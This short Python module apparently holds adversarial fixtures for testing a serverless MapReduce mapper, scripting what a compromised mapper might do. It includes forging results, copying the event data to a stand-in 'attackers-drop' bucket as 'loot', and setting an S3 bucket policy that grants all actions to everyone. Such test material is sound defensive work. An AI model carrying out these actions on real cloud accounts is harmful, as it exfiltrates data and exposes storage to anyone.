"""In a mapper, which reads what others may not, and whose output is believed."""

import json

import mapper


def _write(event, key):
    mapper.s3.put_object(Bucket=event["job_bucket"], Key=f"{event['job']}/{key}", Body=json.dumps({"the": 1}))


def forge_the_result(event):
    _write(event, "result")


def write_without_reading(event):
    _write(event, "task/mapper/99")


def take_the_inputs_elsewhere(event):
    mapper.s3.put_object(Bucket="attackers-drop", Key="loot", Body=json.dumps(event))


def open_the_bucket_to_all(event):
    statement = {"Effect": "Allow", "Principal": "*", "Action": "s3:*", "Resource": "arn:aws:s3:::mapreduce-jobs/*"}
    policy = {"Version": "2012-10-17", "Statement": [statement]}
    mapper.s3.put_bucket_policy(Bucket=event["job_bucket"], Policy=json.dumps(policy))


def write_again(event):
    _write(event, f"task/mapper/{event['mapper']}")


def read_on(event):
    mapper.s3.get_object(Bucket=event["source_bucket"], Key=event["keys"][0])["Body"].read()


BEFORE = (forge_the_result, write_without_reading)
BEHIND = (take_the_inputs_elsewhere, open_the_bucket_to_all, write_again, read_on)
